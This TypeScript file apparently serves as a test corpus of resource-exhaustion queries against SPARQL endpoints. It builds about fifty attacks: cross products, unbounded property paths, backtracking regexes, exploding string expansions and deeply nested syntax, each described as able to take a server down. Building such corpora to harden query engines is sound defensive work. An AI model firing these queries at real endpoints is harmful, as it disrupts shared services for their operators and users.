/** A query made to do harm. */
export interface Attack {
  readonly name: string;
  readonly query: string;
}

const repeat = (times: number, piece: (index: number) => string, between = ' '): string =>
  Array.from({ length: times }, (_, index) => piece(index)).join(between);

const any = (index: number): string => `?s${index} ?p${index} ?o${index} .`;
const cross = (ways: number): string => repeat(ways, any);
const label = '<http://www.w3.org/2000/01/rdf-schema#label>';
const type = '<http://www.w3.org/1999/02/22-rdf-syntax-ns#type>';
/** Any property: all but one that nobody has. */
const step = '!<urn:none>';
const digits = (variable: string): string => `VALUES ${variable} { 0 1 2 3 4 5 6 7 8 9 }`;

/** Every pattern with every other. */
const products: Attack[] = [
  ['rows of two', `SELECT * WHERE { ${cross(2)} }`],
  ['rows of three', `SELECT * WHERE { ${cross(3)} }`],
  ['count of three', `SELECT (COUNT(*) AS ?n) WHERE { ${cross(3)} }`],
  ['count distinct of two', `SELECT (COUNT(DISTINCT *) AS ?n) WHERE { ${cross(2)} }`],
  ['distinct of two', `SELECT DISTINCT ?s0 ?o1 WHERE { ${cross(2)} }`],
  ['filter over two', `SELECT * WHERE { ${cross(2)} FILTER(CONCAT(STR(?o0), STR(?o1)) = "no such text") }`],
  ['options that share nothing', `SELECT * WHERE { ?s ?p ?o . ${repeat(4, (n) => `OPTIONAL { ${any(n)} }`)} }`],
  ['ten to the twelfth', `SELECT (SUM(?d0) AS ?n) WHERE { ${repeat(12, (n) => digits(`?d${n}`))} }`],
  ['triples of two', `CONSTRUCT { ?s0 ?p1 ?o1 } WHERE { ${cross(2)} }`],
  ['not exists over two', `SELECT * WHERE { ${cross(2)} FILTER NOT EXISTS { ?o0 ?p9 ?o1 . ?o1 ?p8 ?x } }`],
  ['minus over two', `SELECT * WHERE { ${cross(2)} MINUS { ?s1 ${type} ?t . ${cross(2)} } }`],
].map(([name, query]) => ({ name: `product: ${name}`, query: query as string }));

/** Paths whose ends are open. */
const paths: Attack[] = [
  ['all pairs', `SELECT (COUNT(*) AS ?n) WHERE { ?a (${step})* ?b }`],
  ['all pairs, both ways', `SELECT * WHERE { ?a (${step}|^${type})+ ?b }`],
  ['all pairs of pairs', `SELECT (COUNT(*) AS ?n) WHERE { ?a (${step})+ ?b . ?b (${step})+ ?c . ?c (${step})+ ?a }`],
  ['stars in stars', `SELECT * WHERE { ?a ((((${step})*)*)*)* ?b }`],
  ['twelve steps', `SELECT (COUNT(*) AS ?n) WHERE { ?a ${repeat(12, () => `(${step}|^${type})`, '/')} ?b }`],
  ['forty steps of alternatives', `SELECT * WHERE { ?a ${repeat(40, () => `(${label}|${type}|^${type})`, '/')} ?b }`],
  ['there and back', `SELECT (COUNT(*) AS ?n) WHERE { ?a ${repeat(6, () => `${type}/^${type}`, '/')} ?b }`],
  ['through classes for ever', `SELECT DISTINCT ?b WHERE { ?a (${type}/^${type})* ?b . ?b (${type}/^${type})* ?c }`],
].map(([name, query]) => ({ name: `path: ${name}`, query: query as string }));

/** Expressions over texts. */
const expressions: Attack[] = [
  ['backtracking', `SELECT * WHERE { ${cross(2)} FILTER(REGEX(STR(?o0), "^(([a-z])+.)+[A-Z]([a-z])+$")) }`],
  ['nested counts', 'SELECT * WHERE { ?s ?p ?o FILTER(REGEX(STR(?o), "((((a{1,30}){1,30}){1,30}){1,30}){1,30}")) }'],
  [
    'a large alternation',
    `SELECT * WHERE { ?s ?p ?o FILTER(REGEX(STR(?o), "(${repeat(4000, (n) => `x${n}`, '|')})+y")) }`,
  ],
  ['many wildcards', `SELECT * WHERE { ${cross(2)} FILTER(REGEX(STR(?o0), "${repeat(200, () => '(.*)', '')}$")) }`],
  ['patterns from the data', `SELECT * WHERE { ${cross(2)} FILTER(REGEX(STR(?o0), STR(?o1), "i")) }`],
  [
    'replacements that grow',
    `SELECT (STRLEN(?t6) AS ?n) WHERE { ?s ${label} ?t0 ${repeat(6, (n) => `BIND(REPLACE(STR(?t${n}), "(.)", "$1$1$1$1$1$1$1$1") AS ?t${n + 1})`)} }`,
  ],
  [
    'a text that doubles',
    `SELECT (STRLEN(?t40) AS ?n) WHERE { BIND("0123456789" AS ?t0) ${repeat(40, (n) => `BIND(CONCAT(?t${n}, ?t${n}) AS ?t${n + 1})`)} }`,
  ],
  ['hashes of hashes', `SELECT (MAX(SHA512(SHA384(SHA256(CONCAT(STR(?o0), STR(?o1)))))) AS ?m) WHERE { ${cross(2)} }`],
].map(([name, query]) => ({ name: `expression: ${name}`, query: query as string }));

/** Sorting and grouping of more than fits. */
const aggregates: Attack[] = [
  ['order of two', `SELECT * WHERE { ${cross(2)} } ORDER BY ?o0 DESC(?o1) LIMIT 10`],
  ['order by hash', `SELECT ?s0 ?s1 WHERE { ${cross(2)} } ORDER BY MD5(CONCAT(STR(?o0), STR(?o1))) LIMIT 1`],
  ['order at random', `SELECT * WHERE { ${cross(2)} } ORDER BY RAND() OFFSET 1000000 LIMIT 10`],
  [
    'order of texts',
    `SELECT * WHERE { ?s0 ${label} ?o0 . ?s1 ${label} ?o1 . ?s2 ${label} ?o2 } ORDER BY LCASE(STR(?o0)) LCASE(STR(?o1))`,
  ],
  ['concat of two', `SELECT (GROUP_CONCAT(STR(?o0)) AS ?t) WHERE { ${cross(2)} }`],
  ['concat for each', `SELECT ?s0 (GROUP_CONCAT(DISTINCT STR(?o1)) AS ?t) WHERE { ${cross(2)} } GROUP BY ?s0`],
  [
    'concat of concats',
    `SELECT (GROUP_CONCAT(?t) AS ?u) WHERE { ?s ?p ?o { SELECT (GROUP_CONCAT(STR(?o0)) AS ?t) WHERE { ${any(0)} } } }`,
  ],
  [
    'groups of two',
    `SELECT ?s0 ?s1 (COUNT(*) AS ?n) WHERE { ${cross(2)} } GROUP BY ?s0 ?s1 HAVING(COUNT(*) > 1000000)`,
  ],
  [
    'samples of three',
    `SELECT ?o0 (SAMPLE(?o2) AS ?x) (AVG(STRLEN(STR(?o1))) AS ?y) WHERE { ${cross(3)} } GROUP BY ?o0`,
  ],
].map(([name, query]) => ({ name: `aggregate: ${name}`, query: query as string }));

/** Texts that are hard on parsers and planners. */
const texts: Attack[] = [
  ['1,000 braces', `SELECT * WHERE ${'{'.repeat(1000)} ?s ?p ?o ${'}'.repeat(1000)}`],
  ['90 braces', `SELECT * WHERE ${'{'.repeat(90)} ?s ?p ?o ${'}'.repeat(90)} ORDER BY ?o`],
  ['5,000 parentheses', `SELECT (${'('.repeat(5000)}1${')'.repeat(5000)} AS ?x) WHERE { }`],
  ['90 parentheses', `SELECT * WHERE { ${cross(2)} FILTER(${'('.repeat(80)}?o0 = ?o1${')'.repeat(80)}) }`],
  [
    '100 options in each other',
    `SELECT * WHERE { ?s ?p ?o ${repeat(99, (n) => `OPTIONAL { ${any(n)}`)} ${'}'.repeat(99)} }`,
  ],
  [
    '100 options beside each other',
    `SELECT * WHERE { ?s ?p ?o ${repeat(100, (n) => `OPTIONAL { ?s ?p${n} ?o${n} }`)} }`,
  ],
  ['150 alternatives', `SELECT * WHERE { ?s ?p ?o FILTER(${repeat(150, (n) => `?o = "no ${n}"`, ' || ')}) }`],
  ['150 unions', `SELECT * WHERE { ${repeat(150, (n) => `{ ?s <urn:p${n % 3}> ?o . ${any(n)} }`, ' UNION ')} }`],
  [
    '40 queries in each other',
    `${repeat(40, () => 'SELECT * WHERE { {')} SELECT * WHERE { ${cross(2)} } ${'} } '.repeat(40)}`,
  ],
  ['60 patterns that share nothing', `SELECT * WHERE { ${cross(60)} } LIMIT 1000000`],
  ['900 sums', `SELECT (${repeat(900, () => '1', ' + ')} AS ?x) WHERE { }`],
  [
    '30 kB of values',
    `SELECT * WHERE { ${cross(2)} VALUES (?s0 ?o1) { ${repeat(800, (n) => `(<urn:a:${n}> <urn:b:${n}>)`)} (UNDEF UNDEF) } }`,
  ],
  [
    'a megabyte of values',
    `SELECT * WHERE { ?s ?p ?o VALUES ?s { ${repeat(40_000, (n) => `<urn:example:thing:${n}>`)} } }`,
  ],
  ['a megabyte of text', `SELECT * WHERE { ?s ?p "${'x'.repeat(1_000_000)}" }`],
].map(([name, query]) => ({ name: `text: ${name}`, query: query as string }));

/** Fifty queries, each of which would take a server down or keep it busy for hours. */
export const attacks: readonly Attack[] = [...products, ...paths, ...expressions, ...aggregates, ...texts];
